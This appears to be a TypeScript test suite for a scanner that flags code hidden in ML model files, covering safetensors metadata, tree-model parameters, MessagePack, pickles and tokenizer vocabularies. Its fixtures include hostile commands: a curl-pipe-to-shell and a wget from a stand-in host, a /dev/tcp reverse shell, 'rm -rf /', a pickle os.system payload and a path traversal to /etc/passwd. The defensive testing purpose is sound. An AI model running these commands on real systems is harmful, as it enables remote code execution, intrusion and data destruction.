import { deepEqual, equal } from 'node:assert/strict';
import { isCodeText, isPackedCode } from '../../src/weights/code-text';
import { field } from './protobuf';
import { scanned } from './scanned';

/** A file of safetensors without tensors. */
function safetensors(metadata: object): Uint8Array {
  const header = Buffer.from(JSON.stringify({ __metadata__: metadata }));
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(header.length));
  return Buffer.concat([length, header]);
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');

describe('weights: programs and commands in texts', () => {
  const programs = [
    "import os; os.system('id')",
    'from subprocess import run',
    '__import__("os")',
    "importlib.import_module('subprocess')",
    'exec(payload)',
    "eval ('1')",
    "eval(compile('x', 'y', 'exec'))",
    "base::system('id')",
    'popen("id")',
    "os.execute('id')",
    'subprocess.getoutput("id")',
    'pickle.loads(data)',
    '/bin/sh -c id',
    'curl -s https://evil.invalid/x.sh | sh',
    'wget http://evil.invalid',
    'bash -c "id"',
    'cmd.exe /c dir',
    'powershell -enc AAAA',
    'chmod +x /tmp/x',
    'rm -rf /',
    'bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
    '<script>alert(1)</script>',
    'javascript:alert(1)',
  ];
  for (const text of programs) it(`finds one in ${text}`, () => equal(isCodeText(text), true));

  const words = [
    'A small transformer, trained with import of data; see https://example.invalid/docs',
    '{"exec (character)": 3, "eval (mode)": 2, "compile (artist)": 1, "system (series)": 1}',
    'system_health execution_time_ms parse_metric',
    'subprocess latency summary',
    'model.eval() was called before saving',
    'python -m train --epochs 3',
    'a bash of colors, wget and curl being words',
    'https://huggingface.co/x/y/resolve/main/config.json',
    'nn.Sequential(nn.Linear(3, 4))',
    'the operating system (Linux) and its spawn (rate)',
  ];
  for (const text of words) it(`finds none in ${text}`, () => equal(isCodeText(text), false));

  it('finds one in Base64, and not in what is no program', () => {
    equal(isPackedCode(base64('import os\nos.system("id")')), true);
    equal(isPackedCode(base64('{"hidden_size": 768, "layers": 12}')), false);
    equal(isPackedCode(base64('rm -rf /').slice(0, 12)), false);
  });
});

describe('weights: code that a file holds', () => {
  const code = "os.system('id')";
  const dangerous = (format: string): readonly string[] => [format, `dangerous: ${format}/held-code`];

  it('is told in the parameters of trees, but not in what the data calls itself', async () => {
    const model = (learner: object): string => JSON.stringify({ learner, version: [2, 1, 0] });
    deepEqual(await scanned('m.json', model({ attributes: { hook: code } })), dangerous('xgboost'));
    deepEqual(await scanned('m.json', model({ feature_names: [code] })), ['xgboost']);
    const trees = (line: string): string => `tree\nversion=v4\n${line}\n\nend of trees\n`;
    deepEqual(await scanned('m.txt', trees(`note=${code}`)), dangerous('lightgbm'));
    deepEqual(await scanned('m.txt', trees(`feature_names=${code}`)), ['lightgbm']);
    deepEqual(await scanned('m.cbm', [...Buffer.from(`CBM1\x02\0\0\0ab${code}`)]), dangerous('catboost'));
  });

  it('is told in texts and bytes of MessagePack, as are pickles', async () => {
    const text = [0xa0 + code.length, ...Buffer.from(code)];
    deepEqual(await scanned('m.flax', [0x81, 0xa1, 0x77, ...text]), dangerous('msgpack'));
    const pickle = [...Buffer.from("cos\nsystem\n(S'id'\ntR.")];
    const [, found] = await scanned('m.msgpack', [0x81, 0xa1, 0x77, 0xc4, pickle.length, ...pickle]);
    equal(found, 'dangerous: pickle/dangerous-call os.system');
  });

  it('is told in formats that are only recognized, and in bytes of no known one', async () => {
    deepEqual(await scanned('m.rknn', `RKNN\x01\0\0\0${code}`), [
      'rknn',
      'dangerous: rknn/held-code',
      'unknown: weights/not-examined',
    ]);
    const unknown = ['unrecognized', 'dangerous: weights/held-code', 'unknown: weights/unknown-format'];
    deepEqual(await scanned('m.bin', `\0\0\0\0${code}\0\0`), unknown);
    deepEqual(await scanned('m.pdiparams', `padding ${code}`), unknown);
    deepEqual(await scanned('m.bin', `\0${base64(`# what comes first\n${code}\n`)}\0`), unknown);
    deepEqual(await scanned('m.bin', '\0\0external_data: ../../../etc/passwd'), unknown);
  });

  it('is no matter in the words of a vocabulary', async () => {
    const piece = (word: string): number[] => field(1, field(1, word), [0x15, 0, 0, 0x80, 0xbf]);
    const words = ['<unk>', '/bin/bash', '<script', '>', 'javascript:', 'eval(', 'rm', 'import'].map(piece).flat();
    deepEqual(await scanned('tokenizer.model', words), ['sentencepiece']);
    const broken = ['sentencepiece', 'unknown: sentencepiece/broken'];
    const long = Array.from({ length: 2000 }, () => words).flat();
    deepEqual(await scanned('tokenizer.model', long), ['sentencepiece']);
    deepEqual(await scanned('tokenizer.model', long.slice(0, -2)), broken);
    deepEqual(await scanned('tokenizer.model', [...words, ...field(6, 'of no vocabulary')]), broken);
    const short = ['unrecognized', 'unknown: weights/unknown-format'];
    deepEqual(await scanned('tokenizer.model', words.slice(0, -2)), short);
    const [format, ...said] = await scanned('m.bin', [
      0xba,
      0x16,
      0x4f,
      0x2f,
      ...Buffer.from('</s>\0/bin/sh\0<script>\0'),
    ]);
    deepEqual([format, ...said], ['fasttext', 'unknown: weights/not-examined']);
  });

  it('is no matter in texts for people, nor in programs', async () => {
    const silent = ['unrecognized', 'unknown: weights/unknown-format'];
    deepEqual(await scanned('README.md', `Run ${code}\n`), silent);
    deepEqual(await scanned('install.sh', 'rm -rf build\n'), silent);
    deepEqual(await scanned('tool', `\x7fELF\x02\x01\x01\0\0/bin/sh -c`), silent);
  });

  it('is told in descriptions of safetensors files', async () => {
    deepEqual(await scanned('m.safetensors', safetensors({ note: code })), [
      'safetensors',
      'dangerous: safetensors/code-in-metadata',
    ]);
    deepEqual(await scanned('m.safetensors', safetensors({ note: base64(`import os;${code}`) })), [
      'safetensors',
      'dangerous: safetensors/code-in-metadata',
    ]);
  });
});
